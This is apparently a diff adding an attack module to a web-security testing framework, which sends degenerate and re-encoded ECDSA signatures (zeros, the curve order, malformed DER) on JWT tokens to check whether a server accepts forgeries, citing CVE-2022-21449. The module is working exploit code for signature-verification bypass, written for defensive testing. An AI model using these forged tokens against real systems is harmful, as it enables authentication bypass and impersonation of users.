@@ -1,0 +1,56 @@
+"""Signatures that a careless multiplication takes for good ones."""
+
+from ..attack import Attack
+from ..attacker import Attacker
+from ..forge import decode, encode, header_of, segment
+from ..verdict import Verdict, held, not_applicable, succeeded
+
+ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
+PRIME = 2**256 - 2**224 + 2**192 + 2**96 - 1
+EDGES = (0, 1, ORDER - 1, ORDER, ORDER + 1, PRIME, PRIME - ORDER, 2**256 - 1)
+
+
+def _run(attacker: Attacker) -> Verdict:
+    target = attacker.target
+    if target.way.mode != "token":
+        return not_applicable("Session mode signs nothing.")
+    login = target.log_in()
+    head, payload, signature = login.credential.split(".")
+    own = header_of(login.credential)
+    heads = (head, segment(own | {"alg": "ES256"}))
+    signatures = [*_degenerate(), *_respelled(decode(signature))]
+    for start in heads:
+        for raw in signatures:
+            answer = target.me(login, f"{start}.{payload}.{encode(raw)}")
+            if answer.accepted:
+                return succeeded(f"A token was believed with the signature {raw[:8].hex()}....")
+            if answer.status >= 500:
+                raise AssertionError(f"a signature broke the server: {answer.status}")
+    return held(f"None of {len(signatures)} degenerate signatures fitted.")
+
+
+def _degenerate() -> list[bytes]:
+    pairs = [r.to_bytes(32, "big") + s.to_bytes(32, "big") for r in EDGES for s in EDGES]
+    der = [bytes.fromhex(text) for text in ("3006020100020100", "3006020101020101", "3000")]
+    return [*pairs, *der, bytes(96), bytes(63), bytes(65), bytes(132), b"\0"]
+
+
+def _respelled(raw: bytes) -> list[bytes]:
+    """The good signature, written otherwise: halves swapped, padded, in DER, and for ECDSA with -s
+    in the place of s after r was changed too, so that none is the token itself."""
+    r, s = raw[:32], raw[32:]
+    der = b"\x02\x21\x00" + r + b"\x02\x21\x00" + s
+    texts = [s + r, raw + b"\0", b"\0" + raw, r + bytes(32), bytes(32) + s, b"\x30\x46" + der]
+    return [text for text in texts if text != raw]
+
+
+ATTACK = Attack(
+    id="forged-zeros",
+    title="Signatures of zeros",
+    story="An attacker writes any token and signs it with zeros, or with the order of the curve."
+    " A library that forgets to look at the range finds that the equation holds."
+    " The attacker is whoever the token names.",
+    references=("CVE-2022-21449", "CWE-347", "ASVS V11.2.1"),
+    defences=("tokens are verified",),
+    run=_run,
+)
